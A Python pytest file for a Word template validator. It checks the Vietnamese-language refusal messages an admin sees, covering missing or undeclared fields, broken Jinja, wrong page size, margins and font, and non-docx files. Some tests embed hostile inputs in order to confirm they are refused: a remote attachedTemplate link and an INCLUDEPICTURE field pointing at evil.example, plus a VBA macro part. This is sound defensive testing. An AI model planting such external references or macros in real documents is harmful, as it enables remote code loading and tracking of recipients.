"""What an admin is told when a new template version is refused, and what passes."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from doc_templates.catalogue import FORMS
from doc_templates.samples import validation_contexts
from doc_templates.validation import template_problems
from tests.fixtures.templates import as_docm, builtin, edited, in_document, with_undeclared_field

FORM = "thong_bao"
SPEC = FORMS[FORM]


@pytest.mark.parametrize("code", sorted(FORMS))
def test_every_built_in_form_passes_its_own_checks(code):
    assert template_problems(FORMS[code], builtin(code)) == []


def test_samples_provide_every_field_of_every_form():
    for _, context in validation_contexts():
        for spec in FORMS.values():
            assert spec.field_names <= set(context)


def test_a_reworded_template_passes():
    data = edited(builtin(FORM), in_document("xin thông báo như sau:", "trân trọng thông báo:"))
    assert template_problems(SPEC, data) == []


def test_a_field_the_catalogue_does_not_declare_is_named():
    [problem] = template_problems(SPEC, with_undeclared_field())
    assert "so_tai_khoan" in problem and "không có trong danh mục" in problem
    assert "reason" in problem  # the allowed fields are listed for the admin


def test_a_required_field_left_out_is_named():
    data = edited(builtin(FORM), in_document("{{ reason }}", "(đã lược bỏ)"))
    assert template_problems(SPEC, data) == ["Mẫu thiếu trường bắt buộc: reason."]


def test_a_misspelt_attribute_fails_when_rendering_with_the_samples():
    data = edited(builtin(FORM), in_document("{{ signer.full_name }}", "{{ signer.ho_ten }}"))
    [problem] = template_problems(SPEC, data)
    assert "ho_ten" in problem and "Không điền được mẫu" in problem


def test_broken_jinja_is_reported_as_a_syntax_error():
    data = edited(builtin(FORM), in_document("{{ reason }}", "{{ reason }} {% if %}"))
    [problem] = template_problems(SPEC, data)
    assert problem.startswith("Mẫu có thẻ Jinja viết sai cú pháp")


def test_a_macro_enabled_document_is_refused():
    [problem] = template_problems(SPEC, as_docm(builtin(FORM)))
    assert ".docm" in problem


def test_a_vba_project_in_a_docx_is_refused():
    data = edited(builtin(FORM), {}, add={"word/vbaProject.bin": "\x00macro"})
    [problem] = template_problems(SPEC, data)
    assert "macro" in problem and "word/vbaProject.bin" in problem


def test_an_external_reference_is_refused():
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/mau.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    data = edited(builtin(FORM), {}, add={"word/_rels/settings.xml.rels": rels})
    [problem] = template_problems(SPEC, data)
    assert "liên kết ra bên ngoài" in problem
    assert "attachedTemplate → http://evil.example/mau.dotm" in problem


def test_a_field_that_fetches_outside_content_is_refused():
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "http://evil.example/x.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    data = edited(builtin(FORM), in_document("</w:body>", f"<w:p>{field}</w:p></w:body>"))
    [problem] = template_problems(SPEC, data)
    assert "INCLUDEPICTURE" in problem


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "không đọc được cấu trúc tệp"),
        (b"%PDF-1.7 not a docx", "không đọc được cấu trúc tệp"),
        (b"PK\x03\x04 truncated", "không đọc được cấu trúc tệp"),
    ],
)
def test_garbage_is_not_a_docx(data, expected):
    [problem] = template_problems(SPEC, data)
    assert expected in problem


def test_a_zip_that_is_not_a_word_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    [problem] = template_problems(SPEC, out.getvalue())
    assert "thiếu phần nội dung chính" in problem


def test_letter_paper_narrow_margins_and_another_font_are_refused():
    def sect(xml: str) -> str:
        xml = re.sub(r'<w:pgSz w:w="\d+" w:h="\d+"', '<w:pgSz w:w="12240" w:h="15840"', xml)
        return re.sub(r'(<w:pgMar [^>]*?)w:left="\d+"', r'\1w:left="1134"', xml)  # 20 mm

    data = edited(
        builtin(FORM),
        {
            "word/document.xml": sect,
            "word/styles.xml": lambda xml: xml.replace("Times New Roman", "Arial"),
        },
    )
    problems = template_problems(SPEC, data)
    assert any("A4" in p and "216 × 279 mm" in p for p in problems), problems
    assert any(p.startswith("Lề trái") and "20.0 mm" in p for p in problems), problems
    assert any("Times New Roman" in p and "Arial" in p for p in problems), problems
